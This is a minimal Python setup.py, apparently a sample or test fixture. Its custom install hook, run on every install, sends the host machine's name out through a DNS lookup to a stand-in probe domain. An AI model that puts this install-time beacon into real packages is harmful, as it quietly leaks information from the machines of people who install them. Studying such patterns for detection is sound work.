import socket

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        socket.gethostbyname(socket.gethostname() + ".probe.example.invalid")


setup(name="sample", cmdclass={"install": Install})
